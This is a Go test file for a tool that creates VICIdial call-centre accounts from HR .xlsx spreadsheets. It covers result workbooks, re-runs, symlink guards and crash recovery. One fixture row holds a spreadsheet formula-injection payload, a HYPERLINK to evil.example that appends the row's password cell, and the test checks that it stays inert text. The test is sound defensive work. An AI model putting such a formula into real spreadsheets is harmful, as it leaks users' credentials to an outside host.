package main

import (
	"archive/zip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/xuri/excelize/v2"

	"github.com/vicionboard/vicionboard/batch"
	"github.com/vicionboard/vicionboard/report"
	"github.com/vicionboard/vicionboard/vicidial/vicidialtest"
)

// xlsxHires writes the workbook HR would send: a text login 007, a phone
// 0123 (the number 123 formatted 0000), a start date, a copy row without
// its trailing cells, a hostile text cell, a bad login, a group the server
// lacks, and a value right of the header. It returns the employee ids in
// row order with their row numbers.
func xlsxHires(t *testing.T, path string) (ids []string, lines []int) {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	const s = "Sheet1"
	set := func(cell string, vals ...any) {
		t.Helper()
		if err := f.SetSheetRow(s, cell, &vals); err != nil {
			t.Fatal(err)
		}
	}
	set("A1", "employee_id", "agent_user", "agent_pass", "agent_full_name", "agent_user_level", "agent_user_group",
		"template", "phone_login", "start_date", "notes")
	set("A2", "E1", "007", "Start-2026a", "James Bond", 1, "AGENTS", "", 123, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC), "")
	code := "0000"
	st, err := f.NewStyle(&excelize.Style{CustomNumFmt: &code})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.SetCellStyle(s, "H2", "H2", st); err != nil {
		t.Fatal(err)
	}
	set("A3", "E2", "xcopy", "Start-2026b", "Xena Copy", "", "", "5555") // a copy row: no trailing cells
	set("A5", "E3", "xhostile", "Start-2026c", "Hal Stile", 1, "SALES", "", "", "", `=HYPERLINK("http://evil.example/?"&C5,"click me")`)
	set("A6", "E4", "x bad", "Start-2026d", "Bad Login", 1, "AGENTS")
	set("A7", "E5", "xbill", "Start-2026e", "Bill Group", 1, "BILLING")
	set("A8", "E6", "xwide", "Start-2026f", "Too Wide", 1, "AGENTS", "", "", "", "", "stray")
	if err := f.SaveAs(path); err != nil {
		t.Fatal(err)
	}
	return []string{"E1", "E2", "E3", "E4", "E5", "E6"}, []int{2, 3, 5, 6, 7, 8}
}

// xlsxResult opens a result workbook and returns its rows as displayed.
func xlsxResult(t *testing.T, path string) (*excelize.File, [][]string) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	rows, err := f.GetRows(report.XLSXSheet)
	if err != nil {
		t.Fatal(err)
	}
	return f, rows
}

// column returns the index of name in the header.
func column(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %s in %v", name, header)
	return -1
}

// fillOf returns the fill colour of a cell of the result sheet.
func fillOf(t *testing.T, f *excelize.File, col, row int) string {
	t.Helper()
	cell, _ := excelize.CoordinatesToCellName(col+1, row)
	id, err := f.GetCellStyle(report.XLSXSheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil || len(st.Fill.Color) == 0 {
		return ""
	}
	return st.Fill.Color[0]
}

// autoFilter returns the autofilter range of the result sheet as stored,
// without $ signs.
func autoFilter(t *testing.T, path string) string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	rc, err := zr.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, _ := io.ReadAll(rc)
	xml := strings.ReplaceAll(string(b), "$", "")
	i := strings.Index(xml, `<autoFilter ref="`)
	if i < 0 {
		return ""
	}
	rest := xml[i+len(`<autoFilter ref="`):]
	return rest[:strings.IndexByte(rest, '"')]
}

// TestXLSXEndToEnd runs the binary on an .xlsx export against the
// simulator: the cells reach the server as displayed (login 007, phone
// 0123), the result is an .xlsx beside the input (mode 0600, no CSV left)
// with every row once, a frozen header, an autofilter and coloured
// statuses; fed back in with no ledger to remember the first run, it sends
// nothing for the rows already created.
func TestXLSXEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	srv := vicidialtest.NewTestServer(t, vicidialtest.Options{})
	dir := t.TempDir()
	in := filepath.Join(dir, "hires.xlsx")
	ids, lines := xlsxHires(t, in)
	env := []string{"VICIDIAL_URL=" + srv.URL, "VICIDIAL_API_USER=6666", "VICIDIAL_API_PASS=1234",
		"XDG_STATE_HOME=" + filepath.Join(dir, "state")}

	res := binRun(t, env, "run", in, "--rate", "0", "--log-format", "json")
	if res.code != exitRowsFailed {
		t.Fatalf("exit %d, want %d:\n%s", res.code, exitRowsFailed, res.stderr)
	}
	out := filepath.Join(dir, "hires.results.xlsx")
	if fi, err := os.Stat(out); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("result file %s: %v (mode %v)", out, err, fi)
	}
	if _, err := os.Stat(out + ".csv"); !os.IsNotExist(err) {
		t.Errorf("the CSV beside the result is left: %v", err)
	}
	if strings.Contains(res.stderr+res.stdout, "Start-2026") {
		t.Errorf("a password appears in the output")
	}

	f, rows := xlsxResult(t, out)
	header := rows[0]
	stCol, rowCol := column(t, header, "result_status"), column(t, header, "result_row")
	wantStatus := map[string]batch.Status{"E1": batch.StatusSuccess, "E2": batch.StatusSuccess, "E3": batch.StatusSuccess,
		"E4": batch.StatusInvalid, "E5": batch.StatusError, "E6": batch.StatusInvalid}
	if len(rows) != len(ids)+1 {
		t.Fatalf("%d result rows, want %d: %q", len(rows)-1, len(ids), rows)
	}
	for i, id := range ids {
		r := rows[i+1]
		if r[0] != id || r[rowCol] != fmt.Sprint(lines[i]) {
			t.Errorf("result row %d: %s from line %s, want %s from line %d", i+1, r[0], r[rowCol], id, lines[i])
		}
		if st := batch.Status(r[stCol]); st != wantStatus[id] {
			t.Errorf("%s: %s (%s), want %s", id, st, r[column(t, header, "result_reason")], wantStatus[id])
		}
		if got, want := fillOf(t, f, stCol, i+2), report.StatusFill(wantStatus[id]); got != want || want == "" {
			t.Errorf("%s: status fill %q, want %q", id, got, want)
		}
	}
	if got := rows[1][column(t, header, "start_date")]; got != "2026-03-02" {
		t.Errorf("start_date carried as %q, want 2026-03-02", got)
	}
	if got := rows[3][column(t, header, "notes")]; !strings.HasPrefix(got, "=HYPERLINK(") {
		t.Errorf("hostile cell carried as %q", got)
	}
	if formula, _ := f.GetCellFormula(report.XLSXSheet, "J4"); formula != "" {
		t.Errorf("the hostile cell became a formula: %q", formula)
	}
	panes, err := f.GetPanes(report.XLSXSheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v (%v): the header row is not frozen", panes, err)
	}
	last, _ := excelize.CoordinatesToCellName(len(header), len(rows))
	if got := autoFilter(t, out); got != "A1:"+last {
		t.Errorf("autofilter %q, want A1:%s", got, last)
	}
	var phone string
	for _, r := range srv.Sim.Requests() {
		if r.Function == "add_user" && r.Params.Get("agent_user") == "007" {
			phone = r.Params.Get("phone_login")
		}
	}
	if phone != "0123" {
		t.Errorf("login 007 sent with phone_login %q, want 0123", phone)
	}

	// Fed back in, with a fresh ledger: the result file alone says which
	// rows are done.
	before := len(srv.Sim.Requests())
	env[len(env)-1] = "XDG_STATE_HOME=" + filepath.Join(dir, "state2")
	res = binRun(t, env, "run", out, "--rate", "0", "--log-format", "json")
	if res.code != exitRowsFailed {
		t.Fatalf("rerun exit %d, want %d:\n%s", res.code, exitRowsFailed, res.stderr)
	}
	created := map[string]bool{"007": true, "xcopy": true, "xhostile": true}
	for _, r := range srv.Sim.Requests()[before:] {
		if login := r.Params.Get("agent_user"); (r.Function == "add_user" || r.Function == "copy_user") && created[login] {
			t.Errorf("rerun sent %s for %s, which was already created", r.Function, login)
		}
	}
	_, again := xlsxResult(t, filepath.Join(dir, "hires.results.results.xlsx"))
	if len(again) != len(ids)+1 {
		t.Fatalf("rerun result has %d rows, want %d", len(again)-1, len(ids))
	}
	for i, id := range ids {
		r := again[i+1]
		if r[0] != id || (created[r[1]] && batch.Status(r[stCol]) != batch.StatusSuccess) {
			t.Errorf("rerun row %d: %s %s %s, want %s", i+1, r[0], r[1], r[stCol], id)
		}
	}
}

// TestXLSXCheckOffline: an offline check of an .xlsx writes INPUT.check.xlsx
// with VALID and INVALID coloured; --out with .csv gives a CSV instead.
func TestXLSXCheckOffline(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "hires.xlsx")
	ids, _ := xlsxHires(t, in)
	env := map[string]string{"XDG_STATE_HOME": t.TempDir()}
	if res := invoke(t, env, "check", in, "--log-format", "json"); res.code != exitRowsFailed {
		t.Fatalf("exit %d:\n%s", res.code, res.stderr)
	}
	f, rows := xlsxResult(t, filepath.Join(dir, "hires.check.xlsx"))
	stCol := column(t, rows[0], "result_status")
	if len(rows) != len(ids)+1 {
		t.Fatalf("%d rows, want %d", len(rows)-1, len(ids))
	}
	for i, r := range rows[1:] {
		want := batch.StatusValid
		if r[0] == "E4" || r[0] == "E6" {
			want = batch.StatusInvalid
		}
		if batch.Status(r[stCol]) != want || fillOf(t, f, stCol, i+2) != report.StatusFill(want) {
			t.Errorf("%s: %s with fill %s, want %s", r[0], r[stCol], fillOf(t, f, stCol, i+2), want)
		}
	}

	csvOut := filepath.Join(dir, "predictions.csv")
	if res := invoke(t, env, "check", in, "--out", csvOut, "--log-format", "json"); res.code != exitRowsFailed {
		t.Fatalf("exit %d:\n%s", res.code, res.stderr)
	}
	b, err := os.ReadFile(csvOut)
	if err != nil || !strings.HasPrefix(string(b), "\uFEFFemployee_id,") || strings.Count(string(b), "\n") != len(ids)+1 {
		t.Errorf("CSV result of an .xlsx input (%v):\n%s", err, b)
	}
}

// TestDefaultResultName: a workbook (known by its content, whatever its
// name) gets an .xlsx result, INPUT.results.xlsx or INPUT.check.xlsx; a
// CSV input a CSV result; --out decides when given.
func TestDefaultResultName(t *testing.T) {
	dir := t.TempDir()
	book := filepath.Join(dir, "export")
	xlsxHires(t, book+".xlsx")
	if err := os.Rename(book+".xlsx", book); err != nil {
		t.Fatal(err)
	}
	csvIn := writeFile(t, dir, "hires.csv", goodCSV)
	for _, tt := range []struct {
		input, out string
		def        func(string) string
		want       string
	}{
		{book, "", defaultOut, book + ".results.xlsx"},
		{book, "", defaultCheckOut, book + ".check.xlsx"},
		{book, filepath.Join(dir, "mine.csv"), defaultOut, filepath.Join(dir, "mine.csv")},
		{csvIn, "", defaultOut, filepath.Join(dir, "hires.results.csv")},
		{csvIn, "", defaultCheckOut, filepath.Join(dir, "hires.check.csv")},
	} {
		f, err := resolveFiles(tt.input, tt.out, tt.def)
		if err != nil || f.out != tt.want {
			t.Errorf("resolveFiles(%s, %q): %v %v, want %s", filepath.Base(tt.input), tt.out, f, err, tt.want)
		}
	}
}

// TestSheetFlag: --sheet becomes the reader's worksheet.
func TestSheetFlag(t *testing.T) {
	var o inputOptions
	cmd := &cobra.Command{Use: "x", RunE: func(*cobra.Command, []string) error { return nil }}
	o.register(cmd)
	cmd.SetArgs([]string{"--sheet", "New hires"})
	if err := cmd.Execute(); err != nil {
		t.Fatal(err)
	}
	if got := o.reader(); got.Sheet != "New hires" {
		t.Errorf("reader options %+v", got)
	}
}

// TestXLSXResultCSVPathChecked: the CSV an .xlsx result's rows go to
// during the run is held to --out's rules: never a link, never the input.
func TestXLSXResultCSVPathChecked(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "hires.xlsx")
	xlsxHires(t, in)
	victim := writeFile(t, dir, "victim.txt", "keep me")
	if err := os.Symlink(victim, filepath.Join(dir, "hires.check.xlsx.csv")); err != nil {
		t.Fatal(err)
	}
	res := invoke(t, map[string]string{"XDG_STATE_HOME": t.TempDir()}, "check", in)
	if res.code != exitUsage || !strings.Contains(res.stderr, "hires.check.xlsx.csv (where the rows of") || !strings.Contains(res.stderr, "symbolic link") {
		t.Errorf("exit %d: %s", res.code, res.stderr)
	}
	if b, _ := os.ReadFile(victim); string(b) != "keep me" {
		t.Errorf("the link's target was written: %q", b)
	}

	// The input is the CSV an .xlsx result would be written to.
	csvIn := writeFile(t, dir, "old.xlsx.csv", goodCSV)
	res = invoke(t, map[string]string{"XDG_STATE_HOME": t.TempDir()}, "check", csvIn, "--out", filepath.Join(dir, "old.xlsx"))
	if res.code != exitUsage || !strings.Contains(res.stderr, "is the input file") {
		t.Errorf("exit %d: %s", res.code, res.stderr)
	}
	if b, _ := os.ReadFile(csvIn); string(b) != goodCSV {
		t.Errorf("the input was written over")
	}
}

// TestXLSXSurvivesSIGKILL: a run of an .xlsx killed mid-way leaves the CSV
// beside its result with every finished row, once and in order; running
// the same command again makes the .xlsx with every row once, and no
// account twice.
func TestXLSXSurvivesSIGKILL(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and kills the binary")
	}
	bin := binary(t)
	// 40 rows at 50 ms on 2 workers take at least a second.
	srv := vicidialtest.NewTestServer(t, vicidialtest.Options{Latency: 50 * time.Millisecond})
	dir := t.TempDir()
	const rows = 40
	in := filepath.Join(dir, "hires.xlsx")
	f := excelize.NewFile()
	for i, line := range strings.Split(strings.TrimSpace(crashCSV(rows)), "\n") {
		cells := strings.Split(line, ",")
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("Sheet1", cell, &cells); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.SaveAs(in); err != nil {
		t.Fatal(err)
	}
	f.Close()
	out := filepath.Join(dir, "hires.results.xlsx")
	spool := report.CSVPath(out)

	cmd, done := startRun(t, bin, srv, in, out, 2, io.Discard)
	for landed := false; !landed; { // evidence, not time: a row is written
		select {
		case err := <-done:
			t.Fatalf("the run ended (exit %d) before it could be killed", exitOf(err))
		case <-time.After(10 * time.Millisecond):
			b, _ := os.ReadFile(spool)
			landed = strings.Count(string(b), "\n") >= 3
		}
	}
	_ = cmd.Process.Kill()
	<-done
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("a killed run left an .xlsx result: %v", err)
	}
	recs := readCSV(t, spool)
	if len(recs) < 3 || len(recs) > rows+1 {
		t.Fatalf("the CSV beside the result has %d rows", len(recs)-1)
	}
	for i, rec := range recs[1:] {
		if rec[0] != fmt.Sprintf("E%d", i) {
			t.Fatalf("CSV row %d is %s: rows out of order or repeated", i, rec[0])
		}
	}

	_, done = startRun(t, bin, srv, in, out, 2, io.Discard)
	if exit := exitOf(<-done); exit != exitOK && exit != exitRowsFailed {
		t.Fatalf("rerun exit %d", exit)
	}
	if _, err := os.Stat(spool); !os.IsNotExist(err) {
		t.Errorf("the CSV beside the result is left after the rerun: %v", err)
	}
	_, result := xlsxResult(t, out)
	if len(result) != rows+1 {
		t.Fatalf("the result has %d rows, want %d", len(result)-1, rows)
	}
	byName := map[string]int{}
	for _, a := range srv.Sim.Accounts() {
		byName[a.FullName]++
	}
	for i, r := range result[1:] {
		if r[0] != fmt.Sprintf("E%d", i) {
			t.Fatalf("result row %d is %s", i, r[0])
		}
		if byName[r[3]] > 1 {
			t.Errorf("%s: %d accounts for one row", r[3], byName[r[3]])
		}
	}
}
